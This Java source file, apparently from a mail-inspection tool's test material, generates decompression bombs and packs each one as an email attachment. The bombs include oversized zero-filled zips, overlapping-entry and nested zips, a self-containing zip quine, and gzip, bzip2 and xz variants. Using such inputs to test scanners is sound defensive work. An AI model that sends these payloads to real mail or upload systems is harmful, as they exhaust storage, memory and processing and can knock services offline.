package org.postern.inspection.anatomy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.List;
import java.util.function.Supplier;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
import org.tukaani.xz.LZMA2Options;
import org.tukaani.xz.XZOutputStream;

/**
 * Small files that unpack to much, made when they are wanted.
 *
 * @param name of the kind
 * @param file its name
 * @param maker makes its bytes
 */
public record Bomb(String name, String file, Supplier<byte[]> maker) {
  private static final int MEGA = 1 << 20;

  /** Every kind that is known. */
  public static final List<Bomb> ALL =
      List.of(
          new Bomb("10 GB of zeros in a zip", "zeros.zip", () -> zip(zeros(10_240), 1)),
          new Bomb(
              "1000 entries over the same gigabyte", "overlap.zip", () -> zip(zeros(1024), 1000)),
          new Bomb("zips of 16 zips of 16 zips", "nested.zip", Bomb::nested),
          new Bomb("a zip that holds itself", "quine.zip", ZipQuine::bytes),
          new Bomb(
              "a gigabyte of zeros in gzip",
              "zeros.gz",
              () -> packed(GZIPOutputStream::new, 20, 50)),
          new Bomb(
              "10 GB of zeros in bzip2",
              "zeros.bz2",
              () -> packed(BZip2CompressorOutputStream::new, 20, 500)),
          new Bomb(
              "2 GB of zeros in xz",
              "zeros.xz",
              () -> packed(out -> new XZOutputStream(out, new LZMA2Options(0)), 20, 100)));

  /** Returns a mail with the file as its attachment. */
  public String mail() {
    return Mails.attachment(file, maker.get());
  }

  @Override
  public String toString() {
    return name;
  }

  /** Opens a stream that packs. */
  private interface Packing {
    OutputStream open(OutputStream out) throws IOException;
  }

  /** A number of megabytes of zeros, packed once and put behind itself a number of times. */
  private static byte[] packed(Packing packing, int megabytes, int times) {
    ByteArrayOutputStream once = new ByteArrayOutputStream();
    try (OutputStream out = packing.open(once)) {
      out.write(new byte[megabytes * MEGA]);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    ByteArrayOutputStream all = new ByteArrayOutputStream(once.size() * times);
    for (int i = 0; i < times; i++) {
      all.writeBytes(once.toByteArray());
    }
    return all.toByteArray();
  }

  private static byte[] nested() {
    byte[] inner = zip(zeros(100), 1);
    for (int level = 0; level < 5; level++) {
      inner = sixteen(inner);
    }
    return inner;
  }

  /** Zeros, deflated: a megabyte that was packed once, as often as wanted. */
  private static byte[] zeros(int megabytes) {
    Deflater deflater = new Deflater(9, true);
    byte[] packed = new byte[8192];
    deflater.setInput(new byte[MEGA]);
    int length = deflater.deflate(packed, 0, packed.length, Deflater.FULL_FLUSH);
    byte[] piece = Arrays.copyOf(packed, length);
    ByteArrayOutputStream all = new ByteArrayOutputStream(piece.length * megabytes + 16);
    for (int i = 0; i < megabytes; i++) {
      all.writeBytes(piece);
    }
    deflater.reset();
    deflater.finish();
    all.write(packed, 0, deflater.deflate(packed));
    deflater.end();
    return all.toByteArray();
  }

  /** A zip whose directory names the same entry a number of times. */
  private static byte[] zip(byte[] deflated, int entries) {
    ByteBuffer zip = ByteBuffer.allocate(31 + deflated.length + entries * 47 + 22);
    zip.order(ByteOrder.LITTLE_ENDIAN);
    zip.putInt(0x04034b50).putShort((short) 20);
    header(zip, deflated.length);
    zip.put((byte) 'z').put(deflated);
    int start = zip.position();
    for (int i = 0; i < entries; i++) {
      int entry = zip.position();
      zip.putInt(0x02014b50).putInt(20 | 20 << 16);
      header(zip, deflated.length);
      zip.position(entry + 46).put((byte) 'z');
    }
    int end = zip.position();
    zip.putInt(0x06054b50).putInt(0).putShort((short) entries).putShort((short) entries);
    return zip.putInt(end - start).putInt(start).putShort((short) 0).array();
  }

  private static void header(ByteBuffer zip, int packed) {
    zip.putShort((short) 0).putShort((short) 8).putInt(0).putInt(0).putInt(packed).putInt(0);
    zip.putShort((short) 1).putShort((short) 0);
  }

  private static byte[] sixteen(byte[] file) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < 16; i++) {
        zip.putNextEntry(new ZipEntry(i + ".zip"));
        zip.write(file);
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }
}
